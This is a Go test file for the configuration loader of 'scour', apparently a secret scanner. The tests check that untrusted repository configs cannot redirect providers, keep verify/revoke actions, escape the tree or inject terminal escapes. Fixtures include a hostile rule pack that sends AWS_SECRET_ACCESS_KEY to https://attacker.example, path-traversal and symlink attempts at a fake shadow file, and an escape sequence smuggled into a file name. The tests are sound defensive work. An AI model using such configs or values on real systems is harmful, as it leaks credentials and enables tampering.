package config

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/scour-dev/scour/internal/treefile"
)

// env is a Getenv with only $SCOUR_CONFIG set (to v).
func env(v string) func(string) string {
	return func(k string) string {
		if k == EnvVar {
			return v
		}
		return ""
	}
}

// Resolve prefers --config, then $SCOUR_CONFIG, then .scour.yaml at a
// directory root (untrusted), and finds nothing for files, stdin, a
// directory without one, or with NoRepoConfig.
func TestResolve(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	none := env("")
	if c, err := Resolve(dir, Options{Getenv: none}); err != nil || c.Path != "" {
		t.Errorf("empty dir: %+v, %v", c, err)
	}
	p := write(t, dir, FileName, "exclude: [x/]\n")
	c, err := Resolve(dir, Options{Getenv: none})
	if err != nil || c.Path != p || c.Trusted {
		t.Errorf("root config: path %q trusted %v, %v; want %q, untrusted", c.Path, c.Trusted, err, p)
	}
	if c, err := Resolve(dir, Options{Getenv: none, NoRepoConfig: true}); err != nil || c.Path != "" || len(c.Exclude) != 0 {
		t.Errorf("--no-repo-config: read %q (%v)", c.Path, err)
	}
	other := write(t, dir, "other.yaml", "")
	if c, err := Resolve(dir, Options{Explicit: other, Getenv: none, NoRepoConfig: true}); err != nil || c.Path != other || !c.Trusted {
		t.Errorf("explicit: %q trusted %v, %v", c.Path, c.Trusted, err)
	}
	if _, err := Resolve(dir, Options{Explicit: filepath.Join(dir, "missing.yaml"), Getenv: none}); err == nil {
		t.Error("missing explicit config: no error")
	}
	if c, err := Resolve(p, Options{Getenv: none}); err != nil || c.Path != "" {
		t.Errorf("file root: %q, %v", c.Path, err)
	}
	if c, err := Resolve("-", Options{Getenv: none}); err != nil || c.Path != "" {
		t.Errorf("stdin: %q, %v", c.Path, err)
	}
}

// $SCOUR_CONFIG is used when --config is not given; --config wins; both
// are trusted.
func TestResolveEnv(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, FileName, "")
	e := write(t, dir, "env.yaml", "")
	flag := write(t, dir, "flag.yaml", "")
	if c, err := Resolve(dir, Options{Getenv: env(e)}); err != nil || c.Path != e || !c.Trusted {
		t.Errorf("env: %q trusted %v, %v", c.Path, c.Trusted, err)
	}
	if c, err := Resolve(dir, Options{Explicit: flag, Getenv: env(e)}); err != nil || c.Path != flag {
		t.Errorf("flag over env: %q, %v", c.Path, err)
	}
	if _, err := Resolve(dir, Options{Getenv: env(filepath.Join(dir, "missing.yaml"))}); err == nil || !strings.Contains(err.Error(), EnvVar) {
		t.Errorf("missing env file: %v", err)
	}
}

// A repository's config never chooses a base URL, and its rule packs lose
// their verify/revoke blocks (with a notice); the same files named with
// --config keep them.
func TestRepoConfigIsDetectionOnly(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, FileName, "rules: [packs/evil.yaml]\nproviders:\n  github:\n    base_url: https://attacker.example\n")
	os.Mkdir(filepath.Join(dir, "packs"), 0o755)
	write(t, filepath.Join(dir, "packs"), "evil.yaml", `provider: github
rules:
  - id: evil-token
    description: x
    pattern: '(?P<secret>evil_[a-z0-9]{20})'
    keywords: [evil_]
    verify:
      base_url: https://attacker.example
      base_url_env: [AWS_SECRET_ACCESS_KEY]
      steps:
        - method: GET
          url: ${base_url}/x
          outcomes:
            - status: [200]
              result: live
    revoke:
      class: admin
      credential_env: AWS_SECRET_ACCESS_KEY
      base_url: https://attacker.example
      steps:
        - method: DELETE
          url: ${base_url}/x
          outcomes:
            - status: [204]
              result: revoked
`)
	c, err := Resolve(dir, Options{Getenv: env("")})
	if err != nil {
		t.Fatal(err)
	}
	if len(c.BaseURLs()) != 0 {
		t.Errorf("untrusted config gives base URLs %v", c.BaseURLs())
	}
	packs, err := c.RulePacks()
	if err != nil {
		t.Fatal(err)
	}
	if r := packs[0].Rules[0]; r.Verify != nil || r.Revoke != nil {
		t.Errorf("untrusted pack kept its actions: verify %v revoke %v", r.Verify != nil, r.Revoke != nil)
	}
	notes := strings.Join(c.Notices(), "\n")
	for _, want := range []string{"ignoring providers:", "ignoring verify/revoke of rule evil-token"} {
		if !strings.Contains(notes, want) {
			t.Errorf("notices %q lack %q", notes, want)
		}
	}

	trusted, err := Resolve(dir, Options{Explicit: filepath.Join(dir, FileName), Getenv: env("")})
	if err != nil {
		t.Fatal(err)
	}
	if trusted.BaseURLs()["github"] == "" {
		t.Error("--config lost providers:")
	}
	packs, err = trusted.RulePacks()
	if err != nil {
		t.Fatal(err)
	}
	if packs[0].Rules[0].Verify == nil || len(trusted.Notices()) != 0 {
		t.Error("--config: pack lost its actions, or notices were given")
	}
}

// A repository's config cannot make scour read a file outside the tree:
// not by an absolute path, not by .., not through a symlink; nor read a
// FIFO (which would block) or a huge file. The refusal never shows the
// outside file's content.
func TestRepoConfigStaysInside(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	const canary = "CANARY-outside-content-7f3a"
	secretFile := write(t, outside, "shadow", "root:"+canary+":0:0\n")

	cases := []struct {
		name  string
		setup func(t *testing.T, dir string)
		want  string
	}{
		{"absolute pack", func(t *testing.T, dir string) {
			write(t, dir, FileName, "rules: ["+secretFile+"]\n")
		}, "outside the repository"},
		{"dotdot pack", func(t *testing.T, dir string) {
			rel, _ := filepath.Rel(dir, secretFile)
			write(t, dir, FileName, "rules: ['"+rel+"']\n")
		}, "outside the repository"},
		{"symlinked pack", func(t *testing.T, dir string) {
			mustSymlink(t, secretFile, filepath.Join(dir, "pack.yaml"))
			write(t, dir, FileName, "rules: [pack.yaml]\n")
		}, "leads outside the repository"},
		{"symlinked dir", func(t *testing.T, dir string) {
			mustSymlink(t, outside, filepath.Join(dir, "packs"))
			write(t, dir, FileName, "rules: [packs/shadow]\n")
		}, "leads outside the repository"},
		{"symlinked config", func(t *testing.T, dir string) {
			mustSymlink(t, secretFile, filepath.Join(dir, FileName))
		}, "leads outside the repository"},
		{"fifo pack", func(t *testing.T, dir string) {
			if err := mkfifo(filepath.Join(dir, "pack.yaml")); err != nil {
				t.Skipf("no FIFOs here: %v", err)
			}
			write(t, dir, FileName, "rules: [pack.yaml]\n")
		}, "not a regular file"},
		{"huge config", func(t *testing.T, dir string) {
			f, err := os.Create(filepath.Join(dir, FileName))
			if err != nil {
				t.Fatal(err)
			}
			f.Truncate(MaxConfigSize + 1) // sparse
			f.Close()
		}, "limit"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			tc.setup(t, dir)
			c, err := Resolve(dir, Options{Getenv: env("")})
			if err == nil {
				_, err = c.RulePacks()
			}
			if err == nil {
				t.Fatal("no error")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q lacks %q", err, tc.want)
			}
			if strings.Contains(err.Error(), canary) {
				t.Errorf("error shows the outside file's content: %q", err)
			}
		})
	}
}

// A symlink that stays inside the tree is fine.
func TestRepoConfigInsideSymlink(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	os.Mkdir(filepath.Join(dir, "conf"), 0o755)
	write(t, filepath.Join(dir, "conf"), "scour.yaml", "exclude: [vendor/]\n")
	mustSymlink(t, filepath.Join("conf", "scour.yaml"), filepath.Join(dir, FileName))
	c, err := Resolve(dir, Options{Getenv: env("")})
	if err != nil || len(c.Exclude) != 1 {
		t.Fatalf("inside symlink: %+v, %v", c, err)
	}
	if _, err := treefile.Read(dir, "nope", 10); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("missing file: %v, want fs.ErrNotExist", err)
	}
}

func mustSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("no symlinks here: %v", err)
	}
}

// A pack name from the tree reaches messages escaped: no terminal control
// character gets through.
func TestRepoPackNameEscaped(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	write(t, dir, FileName, "rules: [\"x\\e]0;pwned\\a.yaml\"]\n")
	c, err := Resolve(dir, Options{Getenv: env("")})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.RulePacks()
	if err == nil || strings.ContainsAny(err.Error(), "\x1b\a") {
		t.Errorf("error %q", err)
	}
}
